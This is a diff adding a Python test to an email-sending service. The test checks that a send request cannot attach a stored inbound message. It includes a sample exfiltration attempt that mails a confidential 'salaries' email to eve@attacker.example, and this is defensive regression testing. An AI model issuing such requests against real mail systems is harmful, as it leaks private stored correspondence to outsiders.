@@ -185,3 +185,19 @@ def test_a_dsn_to_the_verp_address_of_one_recipient_suppresses_exactly_that_reci
     assert [e["address"] for e in suppression.list_suppressed(world.kv, domain)] == ["carol@example.org"]
     again = outbound.send(world, req(domain, idempotency_key="welcome-again"))
     assert [r["status"] for r in again["recipients"]] == ["sent", "suppressed"]
+
+
+def test_a_send_request_cannot_mail_out_a_stored_inbound_message(world, domain, moto_endpoint):
+    """On the emulator's S3: the raw mail SES stored under raw/ses/ is in the same bucket as the
+    uploads; a request naming it is refused and nothing reaches SES."""
+    verify_domain(world, domain)
+    world.raw_store.put("raw/ses/inbound-0001", b"From: ceo@example.test\r\nSubject: salaries\r\n\r\nsecret\r\n")
+    out = outbound.send(world, req(domain, idempotency_key="leak-1", to=["eve@attacker.example"],
+                                   attachments=["raw/ses/inbound-0001"]))
+    assert out["status"] == "rejected" and out["error"] == "attachment-not-allowed"
+    assert accepted(moto_endpoint, domain) == []
+
+    world.raw_store.put(outbound.upload_prefix("leak-2") + "terms.pdf", b"%PDF-1.4 terms")
+    ok = outbound.send(world, req(domain, idempotency_key="leak-2", to=["bob@example.org"],
+                                  attachments=[outbound.upload_prefix("leak-2") + "terms.pdf"]))
+    assert ok["status"] == "sent" and b"terms.pdf" in accepted(moto_endpoint, domain)[0]["raw_data"].encode()
